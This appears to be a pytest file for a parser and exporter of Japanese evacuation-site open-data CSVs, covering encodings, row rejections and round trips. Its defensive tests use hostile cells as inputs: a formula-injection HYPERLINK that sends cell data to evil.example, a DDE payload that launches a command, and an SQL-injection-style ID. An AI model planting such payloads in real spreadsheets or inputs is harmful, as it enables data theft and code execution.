"""The standard open-data set format of evacuation sites: parsing both lists in both encodings, rejections with
their reasons, hostile cells, formula neutralising on export, and the round trip. Pure: no database."""

from __future__ import annotations

import codecs
import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.evacuation_format import (
    CSV_FIELD_LIMIT,
    HAZARDS,
    MAX_CELL_CHARS,
    EvacuationColumns,
    EvacuationSite,
    municipality_code,
    neutralise,
    parse_csv,
    unneutralise,
    write_csv,
)
from mimamori.errors import ValidationError

COLUMNS = EvacuationColumns.load()
SAMPLES = Path(__file__).resolve().parents[2] / "geo" / "samples"
EMERGENCY_HEADERS = COLUMNS.kinds["emergency_site"].headers
SHELTER_HEADERS = COLUMNS.kinds["shelter"].headers


def standard_csv(kind: str, rows: list[dict[str, str]]) -> str:
    headers = COLUMNS.kinds[kind].headers
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(headers)
    for row in rows:
        writer.writerow([row.get(h, "") for h in headers])
    return buffer.getvalue()


def site_row(**cells: str) -> dict[str, str]:
    row = {
        "全国地方公共団体コード": "232114",
        "ID": "1",
        "名称": "豊田市役所",
        "名称_カナ": "トヨタシヤクショ",
        "名称_英字": "Toyota City Hall",
        "所在地_連結表記": "愛知県豊田市西町3-60",
        "緯度": "35.0824",
        "経度": "137.1562",
        "標高": "45",
        "電話番号": "0565-31-1212",
        "災害種別_地震": "1",
        "災害種別_大規模な火事": "○",
        "想定収容人数": "800",
        "備考": "sample",
    }
    row.update(cells)
    return row


def parse_one(kind: str = "emergency_site", **cells: str):
    return parse_csv(standard_csv(kind, [site_row(**cells)]).encode("utf-8"), kind=kind)


# --- the column list is data -----------------------------------------------------------------------------------


def test_the_column_lists_come_from_the_yaml_file_with_the_standards_order():
    assert EMERGENCY_HEADERS[:5] == ("全国地方公共団体コード", "ID", "名称", "名称_カナ", "名称_英字")
    assert len(EMERGENCY_HEADERS) == len(set(EMERGENCY_HEADERS)) == 39
    assert [h for h in EMERGENCY_HEADERS if h.startswith("災害種別_")] == [
        "災害種別_洪水",
        "災害種別_崖崩れ、土石流及び地滑り",
        "災害種別_高潮",
        "災害種別_地震",
        "災害種別_津波",
        "災害種別_大規模な火事",
        "災害種別_内水氾濫",
        "災害種別_火山現象",
    ]
    assert "指定避難所との重複" in EMERGENCY_HEADERS and "指定緊急避難場所との重複" in SHELTER_HEADERS
    fields, hazards = COLUMNS.resolve(EMERGENCY_HEADERS)
    assert set(hazards) == set(HAZARDS)
    assert fields["name"] == "名称" and fields["address"] == "所在地_連結表記" and fields["site_no"] == "ID"


# --- parsing ---------------------------------------------------------------------------------------------------


def test_an_emergency_site_row_maps_onto_the_model():
    parsed = parse_one()
    assert parsed.kind == "emergency_site" and parsed.rows == 1 and parsed.rejections == []
    [site] = parsed.sites
    assert site.id == "232114-emergency_site-1"
    assert (site.name, site.name_kana, site.name_en) == ("豊田市役所", "トヨタシヤクショ", "Toyota City Hall")
    assert (site.lat, site.lon, site.elevation_m, site.capacity) == (35.0824, 137.1562, 45.0, 800)
    assert site.hazards == ("earthquake", "large_fire")  # 1 and ○ both mean designated
    assert site.phone == "0565-31-1212" and site.address == "愛知県豊田市西町3-60"
    assert site.attributes == {"備考": "sample"}  # unmapped, non-empty cells by their Japanese header
    assert site.headers == EMERGENCY_HEADERS


def test_a_shelter_list_is_told_by_its_headers():
    parsed = parse_csv(standard_csv("shelter", [site_row(指定緊急避難場所との重複="1")]).encode())
    assert parsed.kind == "shelter"
    assert parsed.sites[0].id == "232114-shelter-1"
    assert parsed.sites[0].attributes["指定緊急避難場所との重複"] == "1"


@pytest.mark.parametrize("sample", ["toyota_emergency_sites.sample.csv", "toyota_shelters.sample.csv"])
def test_the_shipped_samples_parse_whole_and_say_they_are_samples(sample: str):
    data = (SAMPLES / sample).read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    parsed = parse_csv(data)
    assert parsed.encoding == "utf-8-sig" and parsed.rejections == [] and len(parsed.sites) >= 5
    assert all("SAMPLE DATA" in s.attributes["備考"] for s in parsed.sites)
    assert all(35.0 < s.lat < 35.3 and 137.1 < s.lon < 137.55 for s in parsed.sites)  # Toyota City


@pytest.mark.parametrize(
    ("encoding", "prefix"), [("utf-8", b""), ("utf-8-sig", b""), ("cp932", b""), ("utf-8", codecs.BOM_UTF8)]
)
def test_utf8_with_and_without_bom_and_shift_jis_are_detected(encoding: str, prefix: bytes):
    data = prefix + standard_csv("emergency_site", [site_row()]).encode(encoding)
    parsed = parse_csv(data, kind="emergency_site")
    expected = "utf-8-sig" if prefix or encoding == "utf-8-sig" else encoding
    assert parsed.encoding == expected
    assert parsed.sites[0].name == "豊田市役所" and parsed.headers[0] == "全国地方公共団体コード"


def test_an_encoding_can_be_forced_and_a_wrong_one_is_a_clear_error():
    data = standard_csv("emergency_site", [site_row()]).encode("cp932")
    assert parse_csv(data, encoding="shift_jis").sites[0].name == "豊田市役所"
    with pytest.raises(ValidationError, match="cannot decode as utf-8"):
        parse_csv(data, encoding="utf-8")
    with pytest.raises(ValidationError, match="unknown encoding"):
        parse_csv(data, encoding="klingon")


def test_legacy_and_gsi_headers_are_read_through_the_aliases():
    legacy = (
        "都道府県コード又は市区町村コード,NO,指定緊急避難場所名,指定緊急避難場所名_カナ,緯度,経度,"
        "災害種別_洪水,災害種別_地震,指定避難所との住所同一,想定収容人数,対象となる町内会・自治会\n"
        "23211,7,豊田スタジアム,トヨタスタジアム,35.0846,137.1707,,1,,5000,千石町\n"
    )
    [site] = parse_csv(legacy.encode()).sites
    assert site.id == "232114-emergency_site-7" and site.kind == "emergency_site"  # check digit added
    assert site.name_kana == "トヨタスタジアム" and site.hazards == ("earthquake",) and site.capacity == 5000
    assert site.attributes == {"対象となる町内会・自治会": "千石町"}
    gsi = (
        "NO,共通ID,施設・場所名,住所,洪水,崖崩れ、土石流及び地滑り,地震,指定避難所との住所同一,緯度,経度\n"
        "3,E2321100003,高橋中学校,愛知県豊田市高橋町,1,1,1,1,35.098,137.1815\n"
    )
    [site] = parse_csv(gsi.encode(), default_municipality="232114").sites
    assert site.id == "232114-emergency_site-3" and site.hazards == ("flood", "landslide", "earthquake")


def test_municipality_codes_are_repaired_only_where_the_check_digit_proves_it():
    assert municipality_code("232114") == "232114"
    assert municipality_code("23211") == "232114"  # no check digit
    assert municipality_code("92011") == "092011"  # lost leading zero
    assert municipality_code("1100") == "011002"  # both
    assert municipality_code("２３２１１４") == "232114"  # full-width
    assert municipality_code("232115") is None and municipality_code("99999") is None
    assert municipality_code("abc") is None


# --- rejections ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cells", "reason"),
    [
        ({"名称": ""}, "missing 名称"),
        ({"緯度": ""}, "missing 緯度/経度"),
        ({"緯度": "北緯35度"}, "bad 緯度/経度"),
        ({"経度": "nan"}, "bad 緯度/経度"),
        ({"緯度": "0", "経度": "0"}, "outside Japan"),
        ({"緯度": "51.5", "経度": "-0.12"}, "outside Japan"),
        ({"緯度": "137.1562", "経度": "35.0824"}, "swapped?"),
        ({"災害種別_洪水": "2"}, "災害種別_洪水: unknown value '2'"),
        ({"災害種別_津波": "はい"}, "災害種別_津波: unknown value 'はい'"),
        ({"想定収容人数": "many"}, "bad 想定収容人数"),
        ({"標高": "9000"}, "bad 標高"),
        ({"全国地方公共団体コード": "232115"}, "bad 全国地方公共団体コード"),
        ({"ID": "1; DROP TABLE"}, "bad ID"),
        ({"名称": "x" * (MAX_CELL_CHARS + 1)}, f"名称 is {MAX_CELL_CHARS + 1} characters long"),
        ({"備考": "a\x00b"}, "備考 holds a NUL character"),
    ],
)
def test_each_bad_row_is_rejected_with_its_reason(cells: dict[str, str], reason: str):
    parsed = parse_one(**cells)
    assert parsed.sites == []
    [rejection] = parsed.rejections
    assert rejection.row == 1 and reason in rejection.reason


def test_good_rows_are_kept_beside_bad_ones_and_hazard_values_fold():
    rows = [
        site_row(ID="1"),
        site_row(ID="2", 名称=""),
        site_row(ID="3", 災害種別_洪水="〇", 災害種別_津波="１", 災害種別_地震="0"),  # U+3007, full-width 1, 0 = no
        site_row(ID="1", 名称="dup"),
        site_row(ID="4", 想定収容人数="1,200人"),
    ]
    parsed = parse_csv(standard_csv("emergency_site", rows).encode(), kind="emergency_site")
    assert [s.site_no for s in parsed.sites] == ["1", "3", "4"]
    assert parsed.sites[1].hazards == ("flood", "tsunami", "large_fire")
    assert parsed.sites[2].capacity == 1200
    assert [(r.row, r.reason) for r in parsed.rejections] == [
        (2, "missing 名称 (the site's name)"),
        (4, "duplicate ID 1 (first at row 1)"),
    ]


def test_a_row_with_more_cells_than_headers_is_rejected_and_blank_lines_skipped():
    text = standard_csv("emergency_site", [site_row()]) + "\r\n,,,\r\n" + "a," * 50 + "\r\n"
    parsed = parse_csv(text.encode(), kind="emergency_site")
    assert len(parsed.sites) == 1 and parsed.rows == 2
    assert parsed.rejections[0].reason == "51 cells but 39 headers"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "empty file"),
        ("名称,名称,緯度,経度\n", "empty or repeated column"),
        ("名称,緯度\nx,35\n", "no 経度 column"),
        ("名称,緯度,経度\nx,35,137\n", "pass --kind"),
    ],
)
def test_files_that_are_not_a_list_are_refused_whole(text: str, message: str):
    with pytest.raises(ValidationError, match=message):
        parse_csv(text.encode())


def test_a_cell_beyond_the_csv_limit_refuses_the_file_without_a_crash():
    huge = "x" * (CSV_FIELD_LIMIT + 10)
    with pytest.raises(ValidationError, match="not readable as CSV"):
        parse_one(備考=huge)
    assert csv.field_size_limit() == 131072  # the process-wide limit is put back


def test_bytes_that_are_neither_utf8_nor_shift_jis_are_refused():
    with pytest.raises(ValidationError, match="pass --encoding"):
        parse_csv(b"\x81\x20" * 10)  # a Shift_JIS lead byte without its trail, and not UTF-8


# --- export ----------------------------------------------------------------------------------------------------


def test_formula_cells_are_neutralised_on_export_and_restored_on_import():
    hostile = {
        "名称": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "備考": "@SUM(1+1)",
        "名称_英字": "+cmd|' /C calc'!A0",
        "電話番号": "-2+3",
        "対象となる町会・自治会": "\t=1+1",
    }
    [site] = parse_one(**hostile).sites
    data = write_csv([site], kind="emergency_site")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    for header in ("名称", "備考", "名称_英字", "電話番号"):
        assert cells[header] == "'" + hostile[header], header  # OWASP: a leading quote
    assert cells["対象となる町会・自治会"] == "'=1+1"  # stripped on import, then neutralised on export
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in rows[1] if c)
    assert all(line.startswith('"') for line in data.decode().splitlines())  # every cell quoted
    [back] = parse_csv(data).sites
    assert back.name == hostile["名称"] and back.attributes["備考"] == "@SUM(1+1)"


def test_plain_negative_numbers_are_not_touched():
    assert neutralise("-3.5") == "-3.5" and neutralise("+81") == "+81"
    assert neutralise("-3.5+A1") == "'-3.5+A1"
    assert unneutralise("'=A1") == "=A1" and unneutralise("'quoted") == "'quoted"
    for cell in ("'=A1", "''=A1", "'-1", "'quoted", "=A1", "-2", "'"):
        assert unneutralise(neutralise(cell)) == cell, cell
    assert neutralise("'=A1") == "''=A1" and neutralise("'-1") == "'-1"
    [site] = parse_one(標高="-3.5").sites
    assert site.elevation_m == -3.5
    assert parse_csv(write_csv([site], kind="emergency_site")).sites[0].elevation_m == -3.5


def test_export_keeps_the_files_headers_and_order_and_writes_a_bom_when_asked():
    data = (SAMPLES / "toyota_emergency_sites.sample.csv").read_bytes()
    parsed = parse_csv(data)
    out = write_csv(parsed.sites, kind="emergency_site", bom=True)
    assert out.startswith(codecs.BOM_UTF8)
    assert next(csv.reader(io.StringIO(out.decode("utf-8-sig")))) == list(parsed.headers)
    assert not write_csv(parsed.sites, kind="emergency_site").startswith(codecs.BOM_UTF8)
    assert parse_csv(out).sites == parsed.sites


def test_sites_of_mixed_layouts_export_under_the_standards_headers_plus_their_extras():
    a = parse_one().sites[0]
    b = replace(
        a, id="232114-emergency_site-2", site_no="2", headers=("名称", "緯度", "経度"), attributes={"メモ": "m"}
    )
    out = write_csv([a, b], kind="emergency_site")
    headers = next(csv.reader(io.StringIO(out.decode())))
    assert tuple(headers) == (*EMERGENCY_HEADERS, "メモ")
    back = parse_csv(out).sites
    assert back[1].attributes == {"メモ": "m"} and back[0].name == a.name


def test_round_trip_of_both_kinds_in_both_encodings_is_equal():
    for kind, extra in (("emergency_site", {}), ("shelter", {"指定緊急避難場所との重複": "1"})):
        rows = [site_row(ID=str(i), 緯度=f"35.0{i}", **extra) for i in range(1, 6)]
        for encoding in ("utf-8", "cp932"):
            first = parse_csv(standard_csv(kind, rows).encode(encoding), kind=kind).sites
            again = parse_csv(write_csv(first, kind=kind)).sites
            assert again == first and len(first) == 5


_plain = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60)
# Cells a spreadsheet would run, and ones already quoted: neutralising must stay reversible for all of them.
_text = _plain | st.builds(str.__add__, st.sampled_from(["=", "'=", "''+", "@", "-", "'", "\t=", "+1"]), _plain)


@settings(max_examples=150, deadline=None)
@given(
    name=_text.filter(lambda t: t.strip()),
    note=_text,
    kana=_text,
    lat=st.floats(min_value=20.0, max_value=46.0),
    lon=st.floats(min_value=122.0, max_value=154.1),
    hazards=st.sets(st.sampled_from(HAZARDS)),
    capacity=st.none() | st.integers(min_value=0, max_value=10_000_000),
    bom=st.booleans(),
)
def test_any_site_survives_export_and_import(
    name: str,
    note: str,
    kana: str,
    lat: float,
    lon: float,
    hazards: set[str],
    capacity: int | None,
    bom: bool,
):
    site = EvacuationSite(
        id="232114-shelter-9",
        kind="shelter",
        name=name.strip(),
        lon=lon,
        lat=lat,
        municipality_code="232114",
        site_no="9",
        name_kana=kana.strip() or None,
        hazards=tuple(h for h in HAZARDS if h in hazards),
        capacity=capacity,
        attributes={"備考": note.strip()} if note.strip() else {},
        headers=SHELTER_HEADERS,
    )
    data = write_csv([site], kind="shelter", bom=bom)
    assert parse_csv(data).sites == [site]
